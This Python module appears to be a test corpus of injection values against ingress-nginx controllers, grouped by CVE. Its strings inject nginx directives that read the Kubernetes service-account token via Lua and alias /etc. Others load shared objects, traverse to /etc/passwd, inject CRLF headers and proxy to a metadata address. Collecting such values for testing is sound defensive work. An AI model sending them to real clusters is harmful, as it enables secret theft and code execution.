"""Values from attacks on nginx controllers, by CVE: for annotations, paths, hosts, plugins.

They escaped from a generated configuration file, or read files and secrets through it.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

CORPUS: Mapping[str, Sequence[str]] = {
    # Snippets and directives in annotations.
    "CVE-2021-25742": (
        'set_by_lua $token \'local f=io.open("/run/secrets/kubernetes.io/serviceaccount/token") return f:read("*a")\';',
        "content_by_lua_block { ngx.say(1) }",
    ),
    # Lua and alias in a path.
    "CVE-2021-25745": (
        "/gimme { alias /run/secrets/kubernetes.io/serviceaccount/; } location /fs",
        "/$request_uri; alias /etc/",
    ),
    # Directives in any annotation.
    "CVE-2021-25746": (
        "http://example.com/;\n}\nlocation /x { alias /; }",
        '$remote_addr"; content_by_lua "x',
        "${jndi:ldap://a}",
    ),
    # Line breaks in a path.
    "CVE-2021-25748": ("/x\nlocation /y { alias /etc/; }", "/\r\nHost: evil", "/a\x0bb", "/path;\n#"),
    # A path that is taken for a part of the configuration.
    "CVE-2022-4886": ("/log_format x '$http_authorization'; #", "/)(.*) { root /etc;", "/*{}"),
    # Any directive in an annotation that is a URL or a regular expression.
    "CVE-2023-5043": ('/;}proxy_pass http://10.0.0.1:9180; {"', "^/a(?<!b);return 200 'x'"),
    "CVE-2023-5044": ("http://evil/$1;}location /p{alias /etc/;}#", "$scheme://$host$request_uri"),
    # mTLS, mirror and auth-url.
    "CVE-2025-1097": ('CN=abc #(\n){}\n }}\nssl_engine ../../../../proc/1/fd/3;\n#"', "CN=a\x00b"),
    "CVE-2025-1098": ("http://a/#;\n}\n}\n}\nssl_engine /tmp/x.so;", "uid-1#;}}load_module /tmp/x"),
    "CVE-2025-24513": ("../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%0a%0dX: y"),
    "CVE-2025-24514": ("http://example.com/#;load_module test;\n", "http://example.com/?a=$x{b}"),
    # Later ones of the same family.
    "CVE-2025-15566": ("X-Auth: a;\nproxy_pass http://169.254.169.254", "Authorization, X\r\nHost: b"),
    "CVE-2026-1580": ('"; proxy_pass http://127.0.0.1:9180; #', "GET,POST;\nreturn 200;"),
    "CVE-2026-24512": ('/"{alias /etc/;}', '/a"; lua_code "os.execute(1)'),
}
"""CVE → values of published attacks, shortened to the harmful part."""

VALUES = tuple((cve, value) for cve, values in CORPUS.items() for value in values)
